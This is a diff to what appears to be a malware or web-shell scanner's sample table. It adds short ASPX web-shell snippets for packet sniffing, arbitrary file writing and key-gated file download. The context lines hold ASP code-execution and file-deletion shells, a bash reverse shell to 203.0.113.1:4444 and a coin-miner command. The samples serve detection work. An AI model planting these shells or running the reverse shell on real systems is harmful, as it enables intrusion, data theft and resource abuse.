@@ -116,6 +116,14 @@ SNIPPETS: dict[str, bytes] = {
                                            b'execute ""&n&"=request.form("""&n&""")"\nNext %>'),
     "asp_file_operation_on_request": (b'<% Set f = CreateObject("Scripting.FileSystemObject")\n'
                                       b'f.DeleteFile Request.QueryString("p") %>'),
+    "aspx_packet_sniffer": (b'<%@ Page Language="C#" %><script runat="server">'
+                            b'var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);'
+                            b' s.IOControl(IOControlCode.ReceiveAll, on, off);</script>'),
+    "aspx_form_file_writer": (b'<%@ Page Language="C#" %><script runat="server">void Save() { var w = new StreamWriter('
+                              b'PathBox.Text); w.Write(BodyBox.Text); w.Close(); }</script>'),
+    "aspx_keyed_file_transfer": (b'<%@ Page Language="C#" %><script runat="server">const string KEY = "k1";\n'
+                                 b'void Page_Load() { if (Request.Params["key"] != KEY) return;\n'
+                                 b'Response.WriteFile(Request.Params["f"]); }</script>'),
     # backdoors, miners, ransom notes (other files of the default set)
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
     "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
